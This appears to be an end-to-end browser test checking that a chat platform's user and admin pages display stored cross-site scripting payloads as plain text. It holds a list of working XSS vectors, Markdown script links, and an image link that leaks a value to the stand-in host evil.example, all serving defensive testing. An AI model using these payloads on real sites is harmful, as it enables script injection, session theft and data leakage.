// Stored XSS in Chromium against the real hub + bailian-sim. Script payloads are stored through
// the API in every string a person can put in front of another page: conversation titles and
// system prompts, user messages, assistant answers (the simulator echoes a message containing
// "echo", so the model "says" the payloads), a title the model gives a conversation, model names
// (a refused /v1/chat/completions call records the name it was sent), image prompts and
// negative prompts (and the model's actual prompt built from them), platform key names, display
// names, a session's User-Agent, upstream key names and the audit log's details. Then every page
// that shows them is opened at 1280×800: no payload may run (a `window.__xss` trap, dialogs, CSP
// violations, console errors, in every frame), no element may carry an event-handler attribute,
// a javascript:/data:/vbscript: URL, srcdoc, or be a frame, object or foreign script, and the
// plain-text fields must read exactly as stored.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';

import { tempDir } from '../support/hub.mjs';
import { createUser, SEED_PASSWORD } from '../support/seed.mjs';
import {
  apiLogin,
  assertNoConsoleErrors,
  call,
  DESKTOP,
  launchBrowser,
  openPage,
  shot,
  startStack,
  STRONG_PASSWORD,
  uniqueName,
  waitUntil,
} from './support/e2e.mjs';

// Each payload, if it ever ran, calls (or assigns) window.__xss or opens a dialog. All fit the
// 64-byte limit of display and key names.
const PAYLOADS = [
  `<img src=x onerror="__xss('img')">`,
  `<script>__xss('script')</script>`,
  `<svg onload=__xss('svg')><circle r=9 /></svg>`,
  `[click](javascript:__xss('md-link'))`,
  `<a href="javascript:__xss('a-href')">go</a>`,
  `"><iframe srcdoc="<script>parent.__xss(1)</script>">`,
  `<a href="data:text/html,<script>alert('data')</script>">d</a>`,
  `[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)`,
  `&lt;img src=x onerror=__xss('ent')&gt; &#60;b&#62;b&#60;/b&#62;`,
  `[e](&#106;avascript:__xss('ent-link')) <javascript:alert(2)>`,
  `' onmouseover='__xss("attr")' x='`,
  `{{constructor.constructor('__xss(9)')()}} $t(chat.untitled)`,
];
for (const p of PAYLOADS) assert.ok(Buffer.byteLength(p) <= 64, `payload too long: ${p}`);

// Markdown the model "writes" on top of the raw payloads: code (highlighted through lowlight),
// an image with a script URL, a reference link, an HTML block and a GFM autolink.
const MARKDOWN_EXTRAS = [
  '```html\n<img src=x onerror="__xss(\'code\')"><script>__xss(\'code2\')</script>\n```',
  'Inline `<svg onload=__xss(\'inline\')>` code.',
  '![pic](javascript:__xss(\'md-img\')) ![pic2](data:image/svg+xml,<svg onload=alert(3)>)',
  '[ref][r]\n\n[r]: javascript:__xss(\'ref\')',
  '<details open><summary>s</summary><img src=x onerror=alert(4)></details>',
  'www.example.com/<script>alert(5)</script>',
  // Not script, but the prompt-injection way out: an image the browser would fetch on its own.
  '![leak](https://evil.example/pixel.png?stolen=secret)',
];

// The trap, installed in every frame before any page script runs.
function installTrap() {
  const hits = [];
  const record = (what) => hits.push(String(what));
  Object.defineProperty(window, '__xssHits', { value: hits });
  Object.defineProperty(window, '__xss', { get: () => record, set: (v) => record(`assigned ${v}`) });
  document.addEventListener('securitypolicyviolation', (e) => record(`CSP ${e.violatedDirective} blocked ${e.blockedURI} ${e.sample}`), true);
}

// What may not be in the page, whatever it shows: returns a list of findings.
function scanDom() {
  const found = [];
  const describe = (el) => `<${el.tagName.toLowerCase()}${[...el.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 60)}"`).join('')}>`;
  const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset', 'ping', 'cite']);
  const BAD_SCHEME = /^(javascript|vbscript|data):/i;
  const all = [...document.querySelectorAll('*')];
  for (const el of all) {
    const tag = el.tagName.toLowerCase();
    if (['iframe', 'frame', 'object', 'embed', 'base', 'portal', 'applet'].includes(tag)) found.push(describe(el));
    if (tag === 'script' && !(el.src && new URL(el.src).origin === location.origin)) found.push(describe(el));
    if (tag === 'meta' && el.httpEquiv) found.push(describe(el));
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith('on') || name === 'srcdoc' || name === 'formaction') found.push(describe(el));
      else if (URL_ATTRS.has(name) && BAD_SCHEME.test(a.value.replace(/[\u0000-\u0020\u007f-\u009f]/g, ''))) found.push(describe(el));
    }
  }
  // Whatever a link points at, a click must not run script.
  for (const a of document.querySelectorAll('a[href]')) {
    if (!['http:', 'https:', 'mailto:', 'blob:'].includes(a.protocol)) found.push(describe(a));
  }
  return [...new Set(found)];
}

/** Fails if anything ran or any dangerous element is in the DOM of any frame, now. */
async function assertClean(page, where) {
  for (const frame of page.frames()) {
    const hits = await frame.evaluate(() => window.__xssHits ?? ['no trap in this frame']).catch(() => []);
    assert.deepEqual(hits, [], `${where}: a payload ran (or only the CSP stopped it) in ${frame.url()}`);
  }
  assert.deepEqual(page.dialogs, [], `${where}: a payload opened a dialog`);
  assert.deepEqual(await page.evaluate(scanDom), [], `${where}: dangerous elements in the DOM`);
  assert.equal(page.frames().length, 1, `${where}: a frame was created`);
}

/** Visible text of the page (or of `scope`) holds every string of `texts`, character for character. */
async function assertShown(scope, texts, where) {
  await waitUntil(
    async () => {
      const text = await scope.evaluate((el) => (el.innerText ?? el.body.innerText));
      return texts.every((t) => text.includes(t));
    },
    async () => {
      const text = await scope.evaluate((el) => (el.innerText ?? el.body.innerText));
      return `${where}: shown literally: ${texts.filter((t) => !text.includes(t)).join(' | ')}`;
    },
  );
}

async function openTrapped(browser) {
  const { context, page } = await openPage(browser, { viewport: DESKTOP });
  await context.addInitScript(installTrap);
  page.dialogs = [];
  page.on('dialog', (d) => {
    page.dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss().catch(() => undefined);
  });
  return { context, page };
}

async function signIn(page, url, username, password) {
  await page.goto(`${url}/login`);
  await page.getByLabel('Username or email').fill(username);
  await page.getByLabel('Password', { exact: true }).fill(password);
  const login = page.waitForResponse((r) => new URL(r.url()).pathname === '/api/v1/auth/login');
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  assert.equal((await login).status(), 200);
  await page.locator('header').first().waitFor();
}

/** Opens `path` (a full load: the session comes back through the refresh cookie). */
async function visit(page, url, path) {
  await page.goto(`${url}${path}`);
  await page.locator('header').first().waitFor();
}

describe('stored XSS: payloads in every user-controlled string stay text in the browser', () => {
  let stack;
  let browser;
  let dataDir;
  const s = {}; // what the set-up stored

  before(async () => {
    dataDir = tempDir('e2e-xss-');
    await createUser(dataDir, 'e2e_xadmin', 'admin');
    stack = await startStack({
      dataDir,
      tokensPerSecond: 5000,
      env: { BAILIAN_HUB_IMAGE_FIRST_POLL_MS: '100', BAILIAN_HUB_IMAGE_MAX_POLL_MS: '300' },
    });
    browser = await launchBrowser();
    const url = stack.url;
    const as = (token) => (method, path, body, headers) => call(url, method, path, { token, body, headers });

    // A username is letters, digits, '_', '.', '-' only: markup cannot get in.
    for (const p of PAYLOADS.slice(0, 3)) {
      const r = await call(url, 'POST', '/api/v1/auth/register', { body: { username: p, email: `${uniqueName('x')}@example.com`, password: STRONG_PASSWORD } });
      assert.equal(r.status, 400, `username ${p} -> ${r.status}`);
    }

    // The victim's display name is the first payload; one more user per other payload, so the
    // admin console lists them all. The victim signs in with a payload User-Agent.
    s.users = [];
    for (const p of PAYLOADS) {
      const username = uniqueName('xss');
      const r = await call(url, 'POST', '/api/v1/auth/register', {
        body: { username, email: `${username}@example.com`, password: STRONG_PASSWORD, display_name: p },
      });
      assert.equal(r.status, 201, `display_name ${p}: ${JSON.stringify(r.body)}`);
      assert.equal(r.body.user.display_name, p);
      s.users.push(username);
    }
    s.victim = s.users[0];
    const login = await apiLogin(url, s.victim, STRONG_PASSWORD, `Mozilla/5.0 ${PAYLOADS[0]} ${PAYLOADS[5]}`);
    const api = as(login.access_token);

    // Conversations titled (and system-prompted) with each payload.
    s.conversations = [];
    for (const p of PAYLOADS) {
      const r = await api('POST', '/api/v1/conversations', { title: p, system_prompt: p });
      assert.equal(r.status, 201, JSON.stringify(r.body));
      assert.equal(r.body.title, p);
      s.conversations.push(r.body.id);
    }

    // One untitled conversation: the user sends every payload, the model echoes them back with
    // Markdown around them, and the first answer names the conversation.
    const chat = await api('POST', '/api/v1/conversations', {});
    assert.equal(chat.status, 201);
    s.chat = chat.body.id;
    s.userMessage = [`${PAYLOADS[0]} please echo this:`, ...PAYLOADS, ...MARKDOWN_EXTRAS].join('\n\n');
    const sent = await api('POST', `/api/v1/conversations/${s.chat}/messages`, { content: s.userMessage, stream: false });
    assert.ok(sent.status === 200 || sent.status === 201, `${sent.status} ${JSON.stringify(sent.body).slice(0, 300)}`);
    const messages = await api('GET', `/api/v1/conversations/${s.chat}/messages`);
    const answer = messages.body.items.find((m) => m.role === 'assistant');
    assert.ok(answer && answer.content.includes(PAYLOADS[0]), `the model echoed the payloads: ${JSON.stringify(messages.body).slice(0, 300)}`);

    const conversation = await api('GET', `/api/v1/conversations/${s.chat}`);
    s.chatTitle = conversation.body.title;
    assert.match(s.chatTitle, /<img src=x onerror=/, 'the title model wrote markup into the title');

    // Platform keys named with each payload.
    s.keys = [];
    for (const p of PAYLOADS) {
      const r = await api('POST', '/api/v1/api-keys', { name: p });
      assert.equal(r.status, 201, JSON.stringify(r.body));
      assert.equal(r.body.name, p);
      s.keys.push(r.body);
    }

    // Model names: the compatible API refuses an unknown model and records the call with it,
    // once through a payload-named platform key (History shows the key's name).
    s.models = PAYLOADS.slice(0, 6);
    for (const [i, model] of s.models.entries()) {
      const token = i === 0 ? s.keys[1].key : login.access_token;
      const r = await call(url, 'POST', '/v1/chat/completions', { token, body: { model, messages: [{ role: 'user', content: 'hi' }] } });
      assert.ok(r.status >= 400 && r.status < 500, `model ${model} -> ${r.status}`);
    }

    // Image generations: payload prompts and negative prompts; the model's actual prompt is
    // built from the prompt.
    s.images = [];
    for (const [i, p] of PAYLOADS.slice(0, 4).entries()) {
      const prompt = `${p} ${PAYLOADS[(i + 4) % PAYLOADS.length]} [sim:task-seconds=0.2]`;
      const r = await api('POST', '/api/v1/images/generations', { prompt, negative_prompt: PAYLOADS[(i + 8) % PAYLOADS.length], n: 1, prompt_extend: true });
      assert.equal(r.status, 202, JSON.stringify(r.body));
      s.images.push({ id: r.body.id, prompt, negative: PAYLOADS[(i + 8) % PAYLOADS.length] });
    }
    for (const g of s.images) {
      await waitUntil(async () => (await api('GET', `/api/v1/images/generations/${g.id}`)).body.status === 'succeeded', () => `generation ${g.id} done`, 30_000);
    }

    // The admin names an upstream key with a payload (and disables it: it is not a real key).
    const admin = await apiLogin(url, 'e2e_xadmin', SEED_PASSWORD);
    const adminApi = as(admin.access_token);
    s.upstreamKeys = [];
    for (const p of PAYLOADS.slice(0, 4)) {
      const r = await adminApi('POST', '/api/v1/admin/upstream-keys', { name: p, secret: `sk-xss-${uniqueName('k')}` });
      assert.equal(r.status, 201, JSON.stringify(r.body));
      const off = await adminApi('PATCH', `/api/v1/admin/upstream-keys/${r.body.id}`, { status: 'disabled' });
      assert.equal(off.status, 200, JSON.stringify(off.body));
      s.upstreamKeys.push(p);
    }
  });

  after(async () => {
    await browser?.close().catch(() => undefined);
    await stack?.stop();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  test("a user's pages: conversation list and search, chat, details, history, images, settings", async () => {
    const { context, page } = await openTrapped(browser);
    const url = stack.url;
    try {
      await signIn(page, url, s.victim, STRONG_PASSWORD);
      const nav = page.getByRole('navigation', { name: 'Conversations' });
      await assertShown(nav, PAYLOADS, 'conversation list');
      await nav.getByRole('button', { name: `Account menu for ${PAYLOADS[0]}` }).waitFor();
      await assertClean(page, 'conversation list');

      // Search: the list filtered by a fragment of the markup.
      await nav.getByRole('textbox', { name: 'Search conversations' }).fill('onerror');
      await waitUntil(async () => !(await nav.innerText()).includes(PAYLOADS[1]), () => 'the list filtered');
      await assertShown(nav, [PAYLOADS[0]], 'search result');
      await assertClean(page, 'conversation search');

      // The chat: the user's message word for word, the echoed answer as sanitised Markdown.
      await visit(page, url, `/c/${s.chat}`);
      const userBubble = page.locator('[class*="userText"]').first();
      await userBubble.waitFor();
      assert.equal(await userBubble.innerText(), s.userMessage, 'the user message is shown as typed');
      const answer = page.locator('[class*="markdown"]').first();
      await answer.waitFor();
      // Code keeps its markup as text; the entities decode to text; the links lost their URLs.
      await assertShown(answer, [
        `<img src=x onerror="__xss('code')"><script>__xss('code2')</script>`,
        `<svg onload=__xss('inline')>`,
        `<img src=x onerror=__xss('ent')> <b>b</b>`,
        `' onmouseover='__xss("attr")' x='`,
        `{{constructor.constructor('__xss(9)')()}} $t(chat.untitled)`,
      ], 'assistant answer');
      await waitUntil(async () => (await answer.locator('code .hljs-tag, code [class*="hljs-"]').count()) > 0, () => 'the code block highlighted');
      // Links left: the www.example.com autolink and the remote image, now a link to open.
      const hrefs = await answer.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
      assert.deepEqual(hrefs, ['http://www.example.com/', 'https://evil.example/pixel.png?stolen=secret']);
      assert.equal(await answer.locator('img').count(), 0, 'no image is fetched from another host');
      await shot(page, 'desktop-xss-chat');
      await assertClean(page, 'chat');

      // A titled conversation's header, and the untitled one's title the model chose.
      await visit(page, url, `/c/${s.conversations[2]}`);
      await assertShown(page.locator('header').first(), [PAYLOADS[2]], 'chat header');
      await assertClean(page, 'titled chat');
      await assertShown(nav, [s.chatTitle], 'title written by the model');

      // The details form holds the title and system prompt as stored.
      await visit(page, url, `/c/${s.conversations[5]}/details`);
      await waitUntil(async () => (await page.getByRole('textbox', { name: 'Title', exact: true }).inputValue()) === PAYLOADS[5], () => 'title in the details form');
      assert.equal(await page.getByRole('textbox', { name: 'System prompt', exact: true }).inputValue(), PAYLOADS[5]);
      await assertClean(page, 'conversation details');
      // The delete confirmation quotes the title.
      await page.getByRole('button', { name: /Delete/ }).first().click();
      const confirm = page.getByRole('dialog');
      await assertShown(confirm, [PAYLOADS[5]], 'delete confirmation');
      await assertClean(page, 'delete confirmation');
      await confirm.getByRole('button', { name: 'Cancel' }).click();
      await confirm.waitFor({ state: 'hidden' });

      // History: the recorded model names.
      await visit(page, url, '/history');
      await assertShown(page.locator('main, body').first(), [...s.models, PAYLOADS[1]], 'history table (models, key name)');
      await assertClean(page, 'history');

      // Images: the cards, then the viewer with prompt, actual prompt and negative prompt.
      await visit(page, url, '/images');
      for (const g of s.images) await page.getByRole('article', { name: g.prompt, exact: true }).waitFor();
      await assertClean(page, 'images');
      const first = s.images[0];
      await page.getByRole('article', { name: first.prompt, exact: true }).getByRole('button', { name: /^Open image 1/ }).click();
      const viewer = page.getByRole('dialog');
      await assertShown(viewer, [first.prompt, first.negative], 'image viewer');
      await assertClean(page, 'image viewer');
      await page.keyboard.press('Escape');
      await viewer.waitFor({ state: 'hidden' });

      // Settings: profile, sessions (the payload User-Agent), API keys.
      await visit(page, url, '/settings');
      await waitUntil(async () => (await page.getByRole('textbox', { name: 'Display name', exact: true }).inputValue()) === PAYLOADS[0], () => 'display name in the profile form');
      await assertClean(page, 'settings profile');
      await visit(page, url, '/settings?tab=sessions');
      const sessions = page.getByRole('tabpanel').getByRole('listitem');
      await waitUntil(async () => (await sessions.count()) >= 2, () => 'both sessions listed');
      await assertClean(page, 'settings sessions');
      await visit(page, url, '/settings?tab=apiKeys');
      await assertShown(page.getByRole('tabpanel'), PAYLOADS, 'API key names');
      await assertClean(page, 'settings API keys');

      assertNoConsoleErrors(page);
    } finally {
      await context.close();
    }
  });

  test('the admin console: users, upstream keys, audit log details, statistics', async () => {
    const { context, page } = await openTrapped(browser);
    const url = stack.url;
    try {
      await signIn(page, url, 'e2e_xadmin', SEED_PASSWORD);
      await visit(page, url, '/admin?tab=users');
      const users = page.getByTestId('admin-users');
      await assertShown(users, PAYLOADS, 'admin users (display names)');
      await assertClean(page, 'admin users');

      await visit(page, url, '/admin?tab=keys');
      await assertShown(page.getByRole('tabpanel'), s.upstreamKeys, 'upstream key names');
      await assertClean(page, 'admin upstream keys');

      await visit(page, url, '/admin?tab=audit');
      const audit = page.getByTestId('admin-audit');
      await page.getByRole('textbox', { name: /^Action/ }).fill('api_key.created');
      const row = audit.locator('tbody tr.ant-table-row').first();
      await waitUntil(async () => (await row.innerText()).includes('api_key.created'), () => 'api_key.created listed');
      await assertClean(page, 'admin audit');
      await row.getByRole('button', { name: 'Details' }).click();
      const drawer = page.getByRole('dialog');
      const detail = await drawer.locator('pre').innerText();
      const name = JSON.parse(detail).name;
      assert.ok(PAYLOADS.includes(name), `the audit detail shows the key name as stored: ${detail}`);
      await assertClean(page, 'audit detail');
      await page.keyboard.press('Escape');

      await visit(page, url, '/admin?tab=stats');
      await page.getByRole('tabpanel').waitFor();
      await assertClean(page, 'admin statistics');

      assertNoConsoleErrors(page);
    } finally {
      await context.close();
    }
  });
});
